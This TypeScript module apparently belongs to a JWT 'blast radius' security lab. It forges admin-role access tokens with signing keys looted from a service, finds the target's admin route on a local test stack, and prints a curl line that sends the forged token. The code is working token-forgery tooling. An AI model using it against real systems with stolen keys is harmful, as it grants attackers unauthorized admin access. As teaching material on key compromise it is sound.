import { decodeProtectedHeader, type JWK, type JWTPayload } from 'jose';
import { MAX_TOKEN_LIFETIME, type AppName } from '@jwt-blast-radius/keys';
import { accessTokenClaims, signWithJwk } from '@jwt-blast-radius/attacker';
import { COMPOSE_URLS, issuerIn, signingKeysIn, type Loot } from '@jwt-blast-radius/stack';
import { ROUTES } from '../targets';
import { modeOf } from './describe-loot';
import { HandError } from './errors';
import { isComposeLoot, readRunningStack, type StackFileOptions } from './take-loot';
import { isoOf, relativeTo } from './times';

/** What a forged token claims, and with which of the loot's keys it is signed. */
export interface ForgeOptions {
  readonly sub: string;
  readonly roles: readonly string[];
  readonly aud: AppName;
  /** The kid of the key to sign with; needed when the loot holds several that sign. */
  readonly kid?: string;
  /** The token's `jti`; a fresh UUID unless given. */
  readonly jti?: string;
  /** Seconds from `iat` to `exp`; 300 unless given. */
  readonly ttlSeconds?: number;
  /** The time it is issued at, a NumericDate; now unless given. */
  readonly now?: number;
}

/** A token forged from a loot. */
export interface ForgedToken {
  readonly token: string;
  readonly kid: string;
  readonly alg: string;
  readonly claims: JWTPayload & { readonly roles: readonly string[] };
}

/**
 * The key of a loot to forge with: its only key that signs (a secret or a private key), or the one whose kid is
 * given. Fails with one line (exit 2) naming the looted app when it holds none, none of that kid, or several and
 * no kid was given (listing their kids).
 *
 * @example
 * pickSigningKey(loot).kid; // 'dashboard-api.1c0ffee5'
 * pickSigningKey(issuerLoot, 'mobile-api.77d0a1e2').kid; // 'mobile-api.77d0a1e2'
 */
export function pickSigningKey(loot: Loot, kid?: string): JWK {
  const keys = [...new Map(signingKeysIn(loot).map((jwk) => [JSON.stringify(jwk), jwk])).values()];
  const kids = keys.map((jwk) => jwk.kid ?? '(no kid)');
  if (keys.length === 0) {
    const mode = modeOf(loot);
    throw new HandError(
      'ERR_HAND_SIGNING_KEY',
      `the loot of ${loot.app} (${loot.source}) holds nothing that signs: ${mode ? `in ${mode}, ` : ''}${loot.app} holds no secret or private key, so it can only verify`,
    );
  }
  if (kid !== undefined) {
    const named = keys.find((jwk) => jwk.kid === kid);
    if (!named)
      throw new HandError(
        'ERR_HAND_SIGNING_KEY',
        `the loot of ${loot.app} holds no key that signs with kid ${kid}; it holds ${kids.join(', ')}`,
      );
    return named;
  }
  if (keys.length > 1) {
    throw new HandError(
      'ERR_HAND_SIGNING_KEY',
      `the loot of ${loot.app} holds ${keys.length} keys that sign (${kids.join(', ')}): name one with --kid`,
    );
  }
  return keys[0]!;
}

/**
 * Forges an RFC 9068 access token with a key of the loot, exactly as the lab's attacker does: the claims of
 * `accessTokenClaims` (iat now, a fresh jti, 300 s to live), `iss` the looted app's `ISSUER` (the default issuer
 * when it has none), signed by `signWithJwk` (`typ` at+jwt, the key's kid).
 *
 * @example
 * const { token } = await forgeToken(loot, { sub: 'admin', roles: ['admin'], aud: 'mobile-api' });
 */
export async function forgeToken(loot: Loot, options: ForgeOptions): Promise<ForgedToken> {
  const jwk = pickSigningKey(loot, options.kid);
  const now = options.now ?? Math.floor(Date.now() / 1000);
  const claims = accessTokenClaims(
    {
      iss: issuerIn(loot),
      aud: options.aud,
      sub: options.sub,
      roles: [...options.roles],
      ...(options.jti !== undefined ? { jti: options.jti } : {}),
      ...(options.ttlSeconds !== undefined ? { exp: now + options.ttlSeconds } : {}),
    },
    now,
  );
  const token = await signWithJwk(jwk, claims);
  const { alg = '?', kid = '' } = decodeProtectedHeader(token);
  return { token, kid, alg, claims: { ...claims, roles: [...options.roles] } };
}

/**
 * The URL of the audience's admin route on the stack the loot was taken from: the compose stack's published port
 * for a loot taken from a container; for one taken from a process, the running `npm start` stack's (from its
 * record), or npm start's usual port when none runs now.
 *
 * @example
 * await adminUrlFor(loot, 'mobile-api'); // 'http://127.0.0.1:3002/mobile/admin'
 */
export async function adminUrlFor(loot: Loot, aud: AppName, options: StackFileOptions = {}): Promise<string> {
  let base: string = COMPOSE_URLS[aud];
  if (!isComposeLoot(loot)) {
    const record = await readRunningStack(options).catch(() => undefined);
    // npm start publishes the services on the ports compose does.
    base = record?.services[aud].url ?? base;
  }
  return `${base}${ROUTES[aud].admin}`;
}

/**
 * One line saying what a forged token claims: kid and algorithm, aud, sub, roles, and when it expires.
 *
 * @example
 * describeForged(forged); // 'forged an HS256 token with kid dashboard-api.1c0ffee5: aud dashboard-api, sub admin, roles admin, exp 2026-…Z (in 5 min)'
 */
export function describeForged({ kid, alg, claims }: ForgedToken, now = Math.floor(Date.now() / 1000)): string {
  const exp = Number(claims.exp);
  const lifetime = exp - Number(claims.iat);
  const tooLong =
    lifetime > MAX_TOKEN_LIFETIME ? `; a lifetime of ${lifetime} s, over the ${MAX_TOKEN_LIFETIME} s the services accept` : '';
  return (
    `forged an ${alg} token with kid ${kid}: aud ${String(claims.aud)}, sub ${claims.sub}, roles ${claims.roles.join(',')}, ` +
    `exp ${isoOf(exp)} (${relativeTo(exp, now)})${tooLong}`
  );
}

/**
 * A curl command line that sends the token, kept in `$TOKEN`, to a URL and shows the answer's status line.
 *
 * @example
 * curlLine('http://127.0.0.1:3002/mobile/admin'); // 'curl -si -H "authorization: Bearer $TOKEN" http://127.0.0.1:3002/mobile/admin'
 */
export function curlLine(url: string): string {
  return `curl -si -H "authorization: Bearer $TOKEN" ${url}`;
}
